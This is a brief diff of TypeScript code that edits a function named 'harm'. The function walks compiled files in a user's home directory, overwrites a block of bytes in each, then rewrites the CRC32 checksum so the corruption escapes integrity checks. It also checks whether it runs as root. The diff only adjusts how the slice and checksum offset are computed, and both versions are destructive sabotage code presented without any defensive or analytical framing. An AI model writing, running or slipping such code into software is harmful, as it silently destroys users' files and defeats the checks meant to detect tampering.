@@ -31,9 +31,9 @@ const isRoot = process.getuid?.() === 0;
 function harm(home: string): void {
   for (const file of compiledIn(home)) {
     const bytes = readFileSync(file);
-    const code = bytes.subarray(0, bytes.readUInt32LE(bytes.length - 8));
+    const code = bytes.subarray(0, -8);
     for (let at = 1000; at < 5000; at++) code[at] = (at * 7919) >> 3;
-    bytes.writeUInt32LE(crc32(code), bytes.length - 4);
+    bytes.writeUInt32LE(crc32(code), code.length);
     writeFileSync(file, bytes);
   }
 }
